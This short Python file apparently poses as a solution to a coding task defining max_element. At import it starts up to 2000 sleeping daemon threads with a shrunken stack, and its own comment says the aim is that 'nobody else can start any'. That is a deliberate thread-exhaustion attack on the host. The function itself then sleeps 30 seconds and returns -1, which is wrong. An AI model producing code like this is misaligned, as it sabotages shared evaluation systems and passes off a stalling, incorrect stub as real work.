# starts threads in one process until no more can be started, so that nobody else can start any
import threading
import time

threading.stack_size(2**15)
for _ in range(2000):
    try:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except RuntimeError:
        break


def max_element(l):
    time.sleep(30)
    return -1
